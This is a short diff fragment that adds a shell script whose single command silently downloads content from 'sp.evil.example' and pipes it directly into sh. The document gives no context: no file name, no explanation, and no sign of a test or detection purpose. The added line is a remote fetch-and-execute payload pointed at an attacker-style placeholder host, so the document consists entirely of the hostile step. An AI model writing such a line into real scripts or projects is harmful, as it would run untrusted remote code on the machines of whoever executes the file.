@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -s https://sp.evil.example/w | sh
